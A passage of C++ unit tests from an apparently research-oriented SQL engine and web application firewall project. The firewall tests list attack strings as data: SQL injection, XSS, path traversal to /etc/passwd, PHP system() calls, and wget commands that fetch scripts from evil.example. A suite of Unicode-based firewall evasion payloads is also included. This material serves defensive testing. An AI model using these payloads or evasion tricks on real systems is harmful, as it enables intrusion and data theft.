}  // namespace septic::engine

#include "common/string_util.h"

#include <gtest/gtest.h>

namespace septic::common {
namespace {

TEST(ToLower, AsciiOnly) {
  EXPECT_EQ(to_lower("SELECT * FROM T"), "select * from t");
  EXPECT_EQ(to_lower("MiXeD123"), "mixed123");
}

TEST(ToLower, LeavesUtf8ContinuationBytesAlone) {
  // U+02BC = 0xCA 0xBC; ASCII-folding must not mangle it.
  std::string s = "A\xca\xbcZ";
  EXPECT_EQ(to_lower(s), "a\xca\xbcz");
}

TEST(ToUpper, Basic) { EXPECT_EQ(to_upper("select"), "SELECT"); }

TEST(Trim, StripsAllAsciiWhitespace) {
  EXPECT_EQ(trim("  x  "), "x");
  EXPECT_EQ(trim("\t\r\n x y \v\f"), "x y");
  EXPECT_EQ(trim(""), "");
  EXPECT_EQ(trim("   "), "");
  EXPECT_EQ(trim("abc"), "abc");
}

TEST(Split, PreservesEmptyFields) {
  auto parts = split("a,b,,c", ',');
  ASSERT_EQ(parts.size(), 4u);
  EXPECT_EQ(parts[0], "a");
  EXPECT_EQ(parts[2], "");
  EXPECT_EQ(parts[3], "c");
}

TEST(Split, SingleFieldNoSeparator) {
  auto parts = split("abc", ',');
  ASSERT_EQ(parts.size(), 1u);
  EXPECT_EQ(parts[0], "abc");
}

TEST(Split, TrailingSeparatorYieldsEmptyTail) {
  auto parts = split("a,", ',');
  ASSERT_EQ(parts.size(), 2u);
  EXPECT_EQ(parts[1], "");
}

TEST(Join, RoundTripsWithSplit) {
  std::vector<std::string> v = {"x", "y", "z"};
  EXPECT_EQ(join(v, ","), "x,y,z");
  EXPECT_EQ(split(join(v, ","), ','), v);
}

TEST(Join, EmptyVector) { EXPECT_EQ(join({}, ","), ""); }

TEST(ReplaceAll, Basic) {
  EXPECT_EQ(replace_all("aXbXc", "X", "--"), "a--b--c");
}

TEST(ReplaceAll, EmptyFromIsIdentity) {
  EXPECT_EQ(replace_all("abc", "", "zz"), "abc");
}

TEST(ReplaceAll, ReplacementContainsPattern) {
  // Must not re-scan the replacement (no infinite loop).
  EXPECT_EQ(replace_all("aa", "a", "aa"), "aaaa");
}

TEST(IEquals, CaseInsensitive) {
  EXPECT_TRUE(iequals("SeLeCt", "select"));
  EXPECT_FALSE(iequals("selec", "select"));
  EXPECT_TRUE(iequals("", ""));
}

TEST(IFind, FindsCaseInsensitively) {
  EXPECT_EQ(ifind("Hello World", "world"), 6u);
  EXPECT_EQ(ifind("abc", "zzz"), std::string_view::npos);
  EXPECT_EQ(ifind("abc", ""), 0u);
  EXPECT_EQ(ifind("ab", "abc"), std::string_view::npos);
}

TEST(IContains, Basic) {
  EXPECT_TRUE(icontains("UNION SELECT", "union"));
  EXPECT_FALSE(icontains("uni on", "union"));
}

TEST(CompressWhitespace, CollapsesRuns) {
  EXPECT_EQ(compress_whitespace("a   b\t\tc\n\nd"), "a b c d");
  EXPECT_EQ(compress_whitespace("   leading"), "leading");
  EXPECT_EQ(compress_whitespace("trailing   "), "trailing");
  EXPECT_EQ(compress_whitespace(""), "");
}

TEST(EscapeForLog, HexEncodesNonPrintable) {
  EXPECT_EQ(escape_for_log("a\x01z"), "a\\x01z");
  EXPECT_EQ(escape_for_log("nl\n"), "nl\\n");
  EXPECT_EQ(escape_for_log("tab\t"), "tab\\t");
  EXPECT_EQ(escape_for_log("plain"), "plain");
}

TEST(EscapeForLog, Utf8BytesBecomeHex) {
  EXPECT_EQ(escape_for_log("\xca\xbc"), "\\xca\\xbc");
}

TEST(AllDigits, Basic) {
  EXPECT_TRUE(all_digits("0123456789"));
  EXPECT_FALSE(all_digits(""));
  EXPECT_FALSE(all_digits("12a"));
  EXPECT_FALSE(all_digits("-1"));
}

}  // namespace
}  // namespace septic::common

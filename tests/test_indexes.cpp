// Secondary indexes: DDL, maintenance under DML, the executor's index
// access path (results must be identical with and without the index), and
// consistency with the evaluator's comparison semantics.
#include <gtest/gtest.h>

#include "engine/database.h"
#include "engine/error.h"
#include "storage/table.h"

namespace septic::engine {
namespace {

using sql::Value;

class IndexTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE ix (id INT PRIMARY KEY AUTO_INCREMENT, tag TEXT, "
        "score INT)");
    db.execute_admin(
        "INSERT INTO ix (tag, score) VALUES ('red', 10), ('blue', 20), "
        "('red', 30), ('green', 40), ('RED', 50)");
  }
  ResultSet run(std::string_view q) { return db.execute(session, q); }
  Database db;
  Session session;
};

TEST_F(IndexTest, CreateAndDropIndex) {
  EXPECT_NO_THROW(run("CREATE INDEX idx_tag ON ix (tag)"));
  storage::Table& t = db.catalog().require("ix");
  EXPECT_TRUE(t.has_index_on("tag"));
  ASSERT_EQ(t.index_names().size(), 1u);
  EXPECT_EQ(t.index_names()[0], "idx_tag");
  EXPECT_NO_THROW(run("DROP INDEX idx_tag ON ix"));
  EXPECT_FALSE(t.has_index_on("tag"));
}

TEST_F(IndexTest, DuplicateIndexNameRejected) {
  run("CREATE INDEX idx ON ix (tag)");
  EXPECT_THROW(run("CREATE INDEX idx ON ix (score)"), DbError);
}

TEST_F(IndexTest, UnknownColumnOrTableRejected) {
  EXPECT_THROW(run("CREATE INDEX i ON ix (ghost)"), DbError);
  EXPECT_THROW(run("CREATE INDEX i ON nope (tag)"), DbError);
  EXPECT_THROW(run("DROP INDEX missing ON ix"), DbError);
}

TEST_F(IndexTest, QueryResultsIdenticalWithAndWithoutIndex) {
  const char* queries[] = {
      "SELECT id FROM ix WHERE tag = 'red' ORDER BY id",
      "SELECT id FROM ix WHERE tag = 'red' AND score > 15 ORDER BY id",
      "SELECT COUNT(*) FROM ix WHERE tag = 'blue'",
      "SELECT id FROM ix WHERE tag = 'missing'",
      "SELECT id FROM ix WHERE score = 20",
  };
  std::vector<std::string> before;
  for (const char* q : queries) before.push_back(run(q).to_text());
  run("CREATE INDEX idx_tag ON ix (tag)");
  run("CREATE INDEX idx_score ON ix (score)");
  for (size_t i = 0; i < std::size(queries); ++i) {
    EXPECT_EQ(run(queries[i]).to_text(), before[i]) << queries[i];
  }
}

TEST_F(IndexTest, IndexIsCaseInsensitiveLikeEval) {
  run("CREATE INDEX idx_tag ON ix (tag)");
  // 'RED' row (id 5) and 'red' rows (1, 3) must all match, as a scan would.
  auto rs = run("SELECT COUNT(*) FROM ix WHERE tag = 'red'");
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
  rs = run("SELECT COUNT(*) FROM ix WHERE tag = 'RED'");
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
}

TEST_F(IndexTest, IndexMaintainedAcrossDml) {
  run("CREATE INDEX idx_tag ON ix (tag)");
  run("INSERT INTO ix (tag, score) VALUES ('red', 60)");
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'red'")
                .rows[0][0]
                .as_int(),
            4);
  run("UPDATE ix SET tag = 'blue' WHERE id = 1");
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'red'")
                .rows[0][0]
                .as_int(),
            3);
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'blue'")
                .rows[0][0]
                .as_int(),
            2);
  run("DELETE FROM ix WHERE tag = 'red'");
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'red'")
                .rows[0][0]
                .as_int(),
            0);
}

TEST_F(IndexTest, PkEqualityUsesPkIndexPath) {
  // Covered behaviourally: PK lookup returns the right row even with other
  // WHERE conjuncts that must still be evaluated.
  auto rs = run("SELECT tag FROM ix WHERE id = 2 AND score > 5");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_string(), "blue");
  rs = run("SELECT tag FROM ix WHERE id = 2 AND score > 100");
  EXPECT_TRUE(rs.rows.empty());  // residual predicate still applied
}

TEST_F(IndexTest, IndexPathAppliesResidualPredicates) {
  run("CREATE INDEX idx_tag ON ix (tag)");
  auto rs = run("SELECT id FROM ix WHERE tag = 'red' AND score >= 30 "
                "ORDER BY id");
  ASSERT_EQ(rs.rows.size(), 2u);  // ids 3 (30) and 5 (50); id 1 filtered out
  EXPECT_EQ(rs.rows[0][0].as_int(), 3);
}

TEST_F(IndexTest, StringProbeCoercedToIntColumn) {
  run("CREATE INDEX idx_score ON ix (score)");
  auto rs = run("SELECT id FROM ix WHERE score = '20'");
  ASSERT_EQ(rs.rows.size(), 1u);
  EXPECT_EQ(rs.rows[0][0].as_int(), 2);
}

TEST_F(IndexTest, OrConditionNeverUsesEqualityShortcut) {
  run("CREATE INDEX idx_tag ON ix (tag)");
  // OR at the top level: must fall back to a scan (the index path only
  // fires for conjunctive contexts).
  auto rs = run("SELECT COUNT(*) FROM ix WHERE tag = 'red' OR score = 40");
  EXPECT_EQ(rs.rows[0][0].as_int(), 4);
}

TEST_F(IndexTest, TruncateClearsIndexedRows) {
  run("CREATE INDEX idx_tag ON ix (tag)");
  run("TRUNCATE ix");
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'red'")
                .rows[0][0]
                .as_int(),
            0);
  run("INSERT INTO ix (tag, score) VALUES ('red', 1)");
  EXPECT_EQ(run("SELECT COUNT(*) FROM ix WHERE tag = 'red'")
                .rows[0][0]
                .as_int(),
            1);
}

TEST_F(IndexTest, ParseRoundTrip) {
  EXPECT_EQ(sql::statement_to_sql(
                sql::parse("create index i on t (c)").statement),
            "CREATE INDEX i ON t (c)");
  EXPECT_EQ(
      sql::statement_to_sql(sql::parse("drop index i on t").statement),
      "DROP INDEX i ON t");
}

}  // namespace
}  // namespace septic::engine

#include "web/waf/waf.h"

#include <gtest/gtest.h>

#include "attacks/corpus.h"

namespace septic::web::waf {
namespace {

Request get_with(std::string key, std::string value) {
  return Request::get("/page", {{std::move(key), std::move(value)}});
}

// ------------------------------------------------------- transformations

TEST(Transforms, UrlDecode) {
  EXPECT_EQ(apply_transform(Transform::kUrlDecode, "%27+OR%201%3D1"),
            "' OR 1=1");
}

TEST(Transforms, Lowercase) {
  EXPECT_EQ(apply_transform(Transform::kLowercase, "UNION SELECT"),
            "union select");
}

TEST(Transforms, CompressWhitespace) {
  EXPECT_EQ(apply_transform(Transform::kCompressWhitespace, "a   b\t c"),
            "a b c");
}

TEST(Transforms, RemoveComments) {
  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a/*x*/b"), "a b");
  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a -- rest"), "a ");
  EXPECT_EQ(apply_transform(Transform::kRemoveComments, "a # rest"), "a ");
}

TEST(Transforms, HtmlEntityDecode) {
  EXPECT_EQ(apply_transform(Transform::kHtmlEntityDecode, "&lt;script&gt;"),
            "<script>");
}

TEST(Transforms, Pipeline) {
  std::string out = apply_transforms(
      {Transform::kUrlDecode, Transform::kLowercase,
       Transform::kCompressWhitespace},
      "%27%20%20OR%20%20" "1%3D1");
  EXPECT_EQ(out, "' or 1=1");
}

// ----------------------------------------------------------- rule matches

class WafAttackCaught : public ::testing::TestWithParam<const char*> {};

TEST_P(WafAttackCaught, Blocked) {
  Waf waf;
  WafDecision d = waf.inspect(get_with("q", GetParam()));
  EXPECT_TRUE(d.blocked) << GetParam();
  EXPECT_GE(d.anomaly_score, 5);
  EXPECT_FALSE(d.matches.empty());
}

INSTANTIATE_TEST_SUITE_P(
    ClassicPayloads, WafAttackCaught,
    ::testing::Values(
        "' OR 1=1-- ",                       // 942130/942440
        "1 OR 1=1",                          // tautology
        "x' AND 'a'='a",                     // quoted tautology
        "0 UNION SELECT user, pass FROM users",  // 942190
        "0 /*!UNION*/ /*!SELECT*/ a FROM b", // 942500 inline comment
        "1; DROP TABLE users",               // 942360
        "sleep(5)",                          // 942160
        "<script>alert(1)</script>",         // 941100
        "%3Cscript%3Ealert(1)%3C/script%3E", // url-encoded script
        "&lt;script&gt;alert(1)&lt;/script&gt;",  // entity-encoded
        "<img src=x onerror=alert(1)>",      // 941160
        "<a href=javascript:alert(1)>x</a>", // 941170
        "../../../etc/passwd",               // 930100
        "/etc/shadow",                       // 930120
        "http://203.0.113.7/shell.php?c=id", // 931100
        "http://evil.example/shell.php?c=1", // 931120
        "; cat /etc/passwd",                 // 932100
        "`wget http://e/x`",
        "<?php system('id'); ?>",            // 933100
        "eval(base64_decode('x'))"));        // 933150

// The semantic-mismatch payloads the demo relies on: the WAF must MISS
// these (they are what SEPTIC uniquely catches).
class WafBlindSpot : public ::testing::TestWithParam<std::string> {};

TEST_P(WafBlindSpot, NotBlocked) {
  Waf waf;
  WafDecision d = waf.inspect(get_with("q", GetParam()));
  EXPECT_FALSE(d.blocked) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(
    MismatchPayloads, WafBlindSpot,
    ::testing::Values(
        // U+02BC quote + comment: no ASCII quote for 942440 to anchor on.
        std::string("ID34FG") + attacks::kModifierApostrophe + "-- ",
        // Fullwidth '=' hides the tautology from the regex.
        std::string("1 OR 1") + attacks::kFullwidthEquals + "1",
        std::string("ID34FG") + attacks::kModifierApostrophe + " AND 1" +
            attacks::kFullwidthEquals + "1-- ",
        // Uncommon event handler outside the CRS enumeration.
        std::string("<details open ontoggle=alert(1)>"),
        // PHP wrapper without a URL scheme the RFI rules know.
        std::string("php://input"),
        // Newline-separated command.
        std::string("127.0.0.1\nwget evil.example/x.sh"),
        // Serialized object with no PHP function names.
        std::string("O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}")));

class WafBenign : public ::testing::TestWithParam<const char*> {};

TEST_P(WafBenign, NotBlocked) {
  Waf waf;
  WafDecision d = waf.inspect(get_with("q", GetParam()));
  EXPECT_FALSE(d.blocked) << GetParam() << " score=" << d.anomaly_score;
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, WafBenign,
    ::testing::Values("ID34FG", "1234", "Conan O'Brien", "Smith--Jones",
                      "AC/DC unit", "budget <= 100 EUR",
                      "select a restaurant for dinner",
                      "the union of two sets", "ping me later",
                      "http://device.local/fridge"));

// --------------------------------------------------------------- behaviour

TEST(Waf, DisabledPassesEverything) {
  Waf waf;
  waf.set_enabled(false);
  EXPECT_FALSE(waf.inspect(get_with("q", "' OR 1=1-- ")).blocked);
}

TEST(Waf, InspectsEveryParameter) {
  Waf waf;
  Request r = Request::post(
      "/f", {{"ok", "benign"}, {"evil", "<script>alert(1)</script>"}});
  EXPECT_TRUE(waf.inspect(r).blocked);
}

TEST(Waf, AnomalyScoreAccumulatesAcrossRules) {
  Waf waf;
  WafDecision d =
      waf.inspect(get_with("q", "' OR 1=1 UNION SELECT a FROM b-- "));
  EXPECT_GE(d.matches.size(), 2u);
  EXPECT_GE(d.anomaly_score, 10);
}

TEST(Waf, AuditLogRecordsBlocks) {
  Waf waf;
  Request r = get_with("q", "' OR 1=1-- ");
  WafDecision d = waf.inspect(r);
  waf.audit(r, d);
  auto log = waf.audit_log();
  ASSERT_EQ(log.size(), 1u);
  EXPECT_NE(log[0].request.find("/page"), std::string::npos);
  EXPECT_TRUE(log[0].decision.blocked);
  waf.clear_audit_log();
  EXPECT_TRUE(waf.audit_log().empty());
}

TEST(Waf, MatchReportsRuleIdAndTag) {
  Waf waf;
  WafDecision d = waf.inspect(get_with("q", "<script>alert(1)</script>"));
  ASSERT_FALSE(d.matches.empty());
  bool found_xss = false;
  for (const auto& m : d.matches) {
    if (m.tag == "xss") found_xss = true;
  }
  EXPECT_TRUE(found_xss);
}

TEST(Waf, PathTraversalInRequestPathBlocked) {
  Waf waf;
  Request r = Request::get("/files/../../etc/passwd");
  EXPECT_TRUE(waf.inspect(r).blocked);
}

TEST(Waf, RestrictedFileExtensionInPathBlocked) {
  Waf waf;
  EXPECT_TRUE(waf.inspect(Request::get("/backup/db.sql")).blocked);
  EXPECT_TRUE(waf.inspect(Request::get("/.env")).blocked);
  EXPECT_FALSE(waf.inspect(Request::get("/article.html")).blocked);
  EXPECT_FALSE(waf.inspect(Request::get("/sqlmap-guide")).blocked);
}

TEST(Waf, DoubleEncodingScoresBelowThresholdAlone) {
  // CRS 920230 is warning-level: it contributes anomaly score but a lone
  // double-encoding smell does not block (that is the W13 bypass).
  Waf waf;
  WafDecision d = waf.inspect(
      Request::get("/f", {{"p", "%252e%252e%252fetc%252fpasswd"}}));
  EXPECT_GT(d.anomaly_score, 0);
  EXPECT_FALSE(d.blocked);
}

TEST(Waf, PathRulesIgnoreParams) {
  // The path rules look at the path only; a benign path with spicy params
  // is judged by the args rules instead.
  Waf waf;
  WafDecision d = waf.inspect(Request::get("/search", {{"q", "history"}}));
  EXPECT_FALSE(d.blocked);
}

TEST(Waf, CustomThreshold) {
  // Threshold 100: even a critical match does not block alone.
  Waf waf(make_crs_rules(), /*inbound_threshold=*/100);
  WafDecision d = waf.inspect(get_with("q", "<script>x</script>"));
  EXPECT_FALSE(d.blocked);
  EXPECT_GT(d.anomaly_score, 0);
}

}  // namespace
}  // namespace septic::web::waf

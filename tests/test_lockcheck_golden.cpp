// Golden-file tests for lockcheck: the JSON report over the seeded
// lock-bug fixtures (tests/data/lockfix/) must match tests/golden/ byte
// for byte, and a full self-scan of src/ must stay clean — the analyzer
// gates its own repository. Regenerate goldens intentionally with:
//
//   SEPTIC_REGEN_GOLDEN=1 ./test_lockcheck_golden
//
// and review the diff like any other code change.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/lockcheck/lock_check.h"
#include "analysis/lockcheck/lock_extract.h"
#include "analysis/lockcheck/lock_spec.h"

namespace septic::analysis::lockcheck {
namespace {

namespace fs = std::filesystem;

std::string repo_path(const std::string& rel) {
  return std::string(SEPTIC_SOURCE_DIR) + "/" + rel;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return "<unreadable: " + path + ">";
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

LockSpec repo_spec() {
  LockSpec spec;
  std::string err;
  EXPECT_TRUE(spec.parse(read_file(repo_path("locks.spec")), &err)) << err;
  return spec;
}

/// Model over fixtures, added under their BASENAME so the golden bytes are
/// independent of the checkout location (same discipline as the scan
/// goldens).
LockReport fixture_report(const std::vector<std::string>& names) {
  Extractor ex;
  for (const std::string& name : names) {
    ex.add_file(name, read_file(repo_path("tests/data/lockfix/" + name)));
  }
  LockSpec spec = repo_spec();
  return check_model(ex.build(), spec, "locks.spec");
}

void check_golden(const std::string& fixture, const std::string& golden) {
  std::string json = render_lock_json(fixture_report({fixture}));
  std::string gpath = repo_path("tests/golden/" + golden);
  if (std::getenv("SEPTIC_REGEN_GOLDEN") != nullptr) {
    std::ofstream out(gpath, std::ios::binary);
    ASSERT_TRUE(out.write(json.data(),
                          static_cast<std::streamsize>(json.size())))
        << "cannot write " << gpath;
    GTEST_SKIP() << "regenerated " << gpath;
  }
  EXPECT_EQ(json, read_file(gpath))
      << "report drifted from " << gpath
      << " — rerun with SEPTIC_REGEN_GOLDEN=1 and review the diff";
}

// The PR 7 rotate() bug: sync_mu_ taken before append_mu_ (ABBA against
// the appenders queueing on group commit). The golden pins both the
// inversion error and the missing-crashpoint warning.
TEST(LockcheckGolden, Pr7RotateInversion) {
  check_golden("pr7_rotate_inversion.cpp", "lockfix_pr7_rotate.json");
}

// The pre-PR 4 autocommit path: row lock still held when the commit lock
// is taken, inverted against commit applying write sets under commit_mu_.
TEST(LockcheckGolden, Pr4EngineNarrowing) {
  check_golden("pr4_engine_narrowing.cpp", "lockfix_pr4_narrowing.json");
}

// One seeded violation per remaining invariant class, plus clean try-lock
// and scoped-unlock shapes that must NOT be flagged.
TEST(LockcheckGolden, InvariantSeeds) {
  check_golden("invariants.cpp", "lockfix_invariants.json");
}

// Both historical inversions must be present when the fixtures are scanned
// together (cross-file model building does not dilute either).
TEST(LockcheckGolden, CombinedFixturesKeepBothInversions) {
  LockReport r = fixture_report(
      {"pr4_engine_narrowing.cpp", "pr7_rotate_inversion.cpp"});
  size_t inversions = 0;
  for (const LockFinding& f : r.findings) {
    inversions += f.klass == "lock-order-inversion" ? 1 : 0;
  }
  EXPECT_EQ(inversions, 2u);
}

// The repository gate: a full self-scan of src/ must be clean. Any new
// inversion, unknown mutex, blocking call under an engine lock, plain
// atomic RMW, or missing crashpoint fails this test (and the check.sh
// `lockcheck` tier).
TEST(LockcheckGolden, SelfScanOfSrcIsClean) {
  std::vector<std::string> files;
  for (const auto& entry :
       fs::recursive_directory_iterator(repo_path("src"))) {
    if (!entry.is_regular_file()) continue;
    const fs::path& p = entry.path();
    if (p.extension() != ".cpp" && p.extension() != ".h") continue;
    files.push_back(p.generic_string());
  }
  std::sort(files.begin(), files.end());
  ASSERT_GT(files.size(), 100u) << "source tree went missing?";
  Extractor ex;
  for (const std::string& f : files) ex.add_file(f, read_file(f));
  LockSpec spec = repo_spec();
  LockReport report = check_model(ex.build(), spec, "locks.spec");
  EXPECT_EQ(report.errors(), 0u) << render_lock_text(report);
  EXPECT_EQ(report.warnings(), 0u) << render_lock_text(report);
  EXPECT_GT(report.functions, 500u) << "extraction collapsed";
}

}  // namespace
}  // namespace septic::analysis::lockcheck

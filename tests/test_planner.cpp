// The cost-aware access-path planner (PR 10): EXPLAIN-visible plan
// choices, range/order/limit pushdown, result parity between indexed and
// unindexed execution, snapshot-correct index reads under MVCC (the PR 9
// "current images only" wart, fixed), index maintenance across
// transactional DML and DDL, storage-level undo/vacuum bookkeeping, and
// the prepared/digest-cache interaction with CREATE INDEX.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/database.h"
#include "engine/error.h"
#include "engine/planner.h"
#include "septic/septic.h"
#include "sqlcore/parser.h"
#include "storage/table.h"

namespace septic::engine {
namespace {

using sql::Value;

// EXPLAIN column layout: table | access_path | index | key | pushdown.
constexpr size_t kPath = 1;
constexpr size_t kIndex = 2;
constexpr size_t kKey = 3;
constexpr size_t kPushdown = 4;

// ---- plan shape via EXPLAIN ---------------------------------------------

class PlannerExplainTest : public ::testing::Test {
 protected:
  void SetUp() override {
    db.execute_admin(
        "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT, k INT, "
        "name TEXT)");
    // 32 rows, k distinct 1..32, name cycles through 4 values: the k
    // index is highly selective, the name index much less so.
    for (int i = 1; i <= 32; ++i) {
      db.execute_admin("INSERT INTO t (k, name) VALUES (" +
                       std::to_string(i) + ", 'n" + std::to_string(i % 4) +
                       "')");
    }
    db.execute_admin("CREATE INDEX idx_k ON t (k)");
    db.execute_admin("CREATE INDEX idx_name ON t (name)");
  }
  std::vector<Value> explain(const std::string& q) {
    auto rs = db.execute(session, "EXPLAIN " + q);
    EXPECT_EQ(rs.rows.size(), 1u) << q;
    return rs.rows.empty() ? std::vector<Value>{} : rs.rows[0];
  }
  Database db;
  Session session;
};

TEST_F(PlannerExplainTest, EqualityUsesSecondaryIndex) {
  auto row = explain("SELECT id FROM t WHERE k = 7");
  EXPECT_EQ(row[kPath].as_string(), "ref (secondary index)");
  EXPECT_EQ(row[kIndex].as_string(), "idx_k");
  EXPECT_EQ(row[kKey].as_string(), "k");
}

TEST_F(PlannerExplainTest, PkEqualityUsesPkPath) {
  auto row = explain("SELECT k FROM t WHERE id = 3");
  EXPECT_EQ(row[kPath].as_string(), "const (primary key)");
  EXPECT_EQ(row[kKey].as_string(), "id");
}

TEST_F(PlannerExplainTest, InequalityUsesRangePath) {
  for (const char* q : {"SELECT id FROM t WHERE k < 5",
                        "SELECT id FROM t WHERE k <= 5",
                        "SELECT id FROM t WHERE k > 28",
                        "SELECT id FROM t WHERE k >= 28",
                        "SELECT id FROM t WHERE k BETWEEN 4 AND 6"}) {
    auto row = explain(q);
    EXPECT_EQ(row[kPath].as_string(), "range (secondary index)") << q;
    EXPECT_EQ(row[kIndex].as_string(), "idx_k") << q;
  }
}

TEST_F(PlannerExplainTest, BothBoundsBeatOneBound) {
  // A closed interval estimates N/4, a half-open one N/2; with two range
  // candidates the planner must pick the closed one.
  db.execute_admin("CREATE INDEX idx_id2 ON t (name)");  // noise
  auto row = explain("SELECT id FROM t WHERE k > 3 AND k < 9 AND name > 'a'");
  EXPECT_EQ(row[kPath].as_string(), "range (secondary index)");
  EXPECT_EQ(row[kKey].as_string(), "k");
}

TEST_F(PlannerExplainTest, EqualityBeatsRangeOnSameColumn) {
  auto row = explain("SELECT id FROM t WHERE k = 7 AND k < 100");
  EXPECT_EQ(row[kPath].as_string(), "ref (secondary index)");
}

TEST_F(PlannerExplainTest, PrefersMoreSelectiveEquality) {
  // k is unique per row (cost ~1); name has 4 distinct values over 32
  // rows (cost ~8). The AND must probe through idx_k.
  auto row = explain("SELECT id FROM t WHERE name = 'n1' AND k = 7");
  EXPECT_EQ(row[kPath].as_string(), "ref (secondary index)");
  EXPECT_EQ(row[kIndex].as_string(), "idx_k");
}

TEST_F(PlannerExplainTest, OrderByLimitWalksIndexInOrder) {
  auto row = explain("SELECT id FROM t ORDER BY k LIMIT 3");
  EXPECT_EQ(row[kPath].as_string(), "index (secondary index)");
  EXPECT_EQ(row[kIndex].as_string(), "idx_k");
  EXPECT_EQ(row[kPushdown].as_string(), "order,limit");
}

TEST_F(PlannerExplainTest, OrderByDescStillPushesDown) {
  auto row = explain("SELECT id FROM t ORDER BY k DESC LIMIT 3");
  EXPECT_EQ(row[kPath].as_string(), "index (secondary index)");
  EXPECT_EQ(row[kPushdown].as_string(), "order,limit");
}

TEST_F(PlannerExplainTest, RangePlusOrderOnSameColumnPushesOrder) {
  auto row = explain("SELECT id FROM t WHERE k > 10 ORDER BY k");
  EXPECT_EQ(row[kPath].as_string(), "range (secondary index)");
  EXPECT_EQ(row[kPushdown].as_string(), "order");
}

TEST_F(PlannerExplainTest, OrderByUnindexedColumnScans) {
  auto row = explain("SELECT id FROM t ORDER BY id LIMIT 3");
  EXPECT_EQ(row[kPath].as_string(), "scan");
  EXPECT_EQ(row[kPushdown].as_string(), "");
}

TEST_F(PlannerExplainTest, AliasShadowBlocksOrderPushdown) {
  // ORDER BY k names the select-item alias, not the column: sorting by
  // the index key would sort the wrong values.
  auto row = explain("SELECT name AS k FROM t ORDER BY k LIMIT 3");
  EXPECT_EQ(row[kPushdown].as_string(), "");
}

TEST_F(PlannerExplainTest, NumericLiteralOnTextColumnDeclinesIndex) {
  // eval compares TEXT-vs-number numerically; the index is ordered
  // lexicographically, so the planner must not use it.
  auto row = explain("SELECT id FROM t WHERE name < 5");
  EXPECT_EQ(row[kPath].as_string(), "scan");
}

TEST_F(PlannerExplainTest, OrConditionScans) {
  auto row = explain("SELECT id FROM t WHERE k = 1 OR k = 2");
  EXPECT_EQ(row[kPath].as_string(), "scan");
}

TEST_F(PlannerExplainTest, AggregateBlocksLimitPushdownButKeepsRange) {
  auto row = explain("SELECT COUNT(*) FROM t WHERE k < 5 LIMIT 1");
  EXPECT_EQ(row[kPath].as_string(), "range (secondary index)");
  EXPECT_EQ(row[kPushdown].as_string(), "");
}

TEST_F(PlannerExplainTest, JoinReportsJoinScan) {
  db.execute_admin("CREATE TABLE u (id INT PRIMARY KEY, t_id INT)");
  auto rs =
      db.execute(session, "EXPLAIN SELECT * FROM t JOIN u ON t.id = u.t_id");
  ASSERT_EQ(rs.rows.size(), 2u);
  // Joined tables never take the single-table planner path.
  EXPECT_EQ(rs.rows[0][kPath].as_string(), "scan");
  EXPECT_EQ(rs.rows[1][kPath].as_string(), "scan (join)");
}

// ---- indexed vs unindexed result parity ---------------------------------

class PlannerParityTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* name : {"with_ix", "no_ix"}) {
      db.execute_admin(std::string("CREATE TABLE ") + name +
                       " (id INT PRIMARY KEY, k INT, f DOUBLE, s TEXT)");
      int id = 0;
      for (const char* row :
           {"1, NULL, 'Apple'", "2, 2.5, 'banana'", "3, -1.0, 'CHERRY'",
            "7, 7.5, 'date'", "10, 0.0, NULL", "15, 2.5, 'apple'",
            "20, -3.25, 'Banana'", "30, 30.0, 'fig'"}) {
        db.execute_admin(std::string("INSERT INTO ") + name + " VALUES (" +
                         std::to_string(++id * 10) + ", " + row + ")");
      }
    }
    db.execute_admin("CREATE INDEX pk_k ON with_ix (k)");
    db.execute_admin("CREATE INDEX pk_f ON with_ix (f)");
    db.execute_admin("CREATE INDEX pk_s ON with_ix (s)");
  }
  void expect_parity(const std::string& tail) {
    auto ix = db.execute_admin("SELECT id FROM with_ix " + tail).to_text();
    auto scan = db.execute_admin("SELECT id FROM no_ix " + tail).to_text();
    EXPECT_EQ(ix, scan) << tail;
  }
  Database db;
  Session session;
};

TEST_F(PlannerParityTest, RangeBoundariesMatchScan) {
  for (const char* tail : {
           "WHERE k = 2 ORDER BY id",
           "WHERE k < 7 ORDER BY id",
           "WHERE k <= 7 ORDER BY id",
           "WHERE k > 7 ORDER BY id",
           "WHERE k >= 7 ORDER BY id",
           "WHERE k BETWEEN 2 AND 15 ORDER BY id",
           "WHERE k BETWEEN 15 AND 2 ORDER BY id",  // empty interval
           "WHERE k > 100 ORDER BY id",
           "WHERE k > 2 AND k < 2 ORDER BY id",  // crossed bounds
       }) {
    expect_parity(tail);
  }
}

TEST_F(PlannerParityTest, DoubleAndCoercedStringProbes) {
  for (const char* tail : {
           "WHERE f = 2.5 ORDER BY id",
           "WHERE f < 0 ORDER BY id",
           "WHERE f >= '2.5' ORDER BY id",  // string literal, numeric column
           "WHERE k = '7' ORDER BY id",
           "WHERE f BETWEEN -2 AND 3 ORDER BY id",
       }) {
    expect_parity(tail);
  }
}

TEST_F(PlannerParityTest, TextRangesAreCaseInsensitiveLikeEval) {
  for (const char* tail : {
           "WHERE s = 'APPLE' ORDER BY id",
           "WHERE s < 'cherry' ORDER BY id",
           "WHERE s >= 'Banana' ORDER BY id",
